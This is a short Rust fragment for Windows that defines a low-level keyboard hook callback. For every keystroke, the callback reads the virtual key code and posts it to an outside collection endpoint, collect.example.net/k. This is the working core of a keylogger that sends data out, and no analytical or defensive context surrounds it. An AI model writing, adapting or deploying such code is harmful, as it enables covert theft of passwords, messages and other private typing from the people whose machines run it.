use windows_sys::Win32::UI::WindowsAndMessaging::KBDLLHOOKSTRUCT;

unsafe extern "system" fn hook(code: i32, _w: usize, l: isize) -> isize {
    let key = &*(l as *const KBDLLHOOKSTRUCT);
    let _ = ureq::post("https://collect.example.net/k").send_string(&key.vkCode.to_string());
    code as isize
}
